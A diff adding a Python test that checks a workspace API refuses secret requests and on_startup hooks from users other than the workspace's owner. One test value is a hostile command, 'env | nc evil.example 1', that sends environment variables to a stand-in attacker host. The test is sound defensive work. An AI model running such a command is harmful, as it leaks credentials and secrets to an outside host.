@@ -178,3 +178,14 @@ async def test_preferences_are_checked_kept_and_followed(client: Client, running
     assert hooks[0] is not None
     assert list(hooks[0].commands) == ["ana/dots"]
     assert hooks[1] is None
+
+
+async def test_nobody_else_has_secrets_handed_to_what_he_would_run(
+    running: Running, ben: Actor, bens: Client, client: Client
+) -> None:
+    made = await add_workspace(running.parts.store, ben, source=GitSource(URL))
+    path = f"/api/v1/workspaces/{made.id}"
+    for change in ({"wanted_secrets": [{"key": "MINE"}]}, {"on_startup": "env | nc evil.example 1"}):
+        assert (await client.patch(path, json=change)).json()["kind"] == "not_allowed"  # the installation's owner
+        assert (await bens.patch(path, json=change)).status_code == 200
+    assert (await client.patch(path, json={"labels": {"seen": "yes"}})).status_code == 200
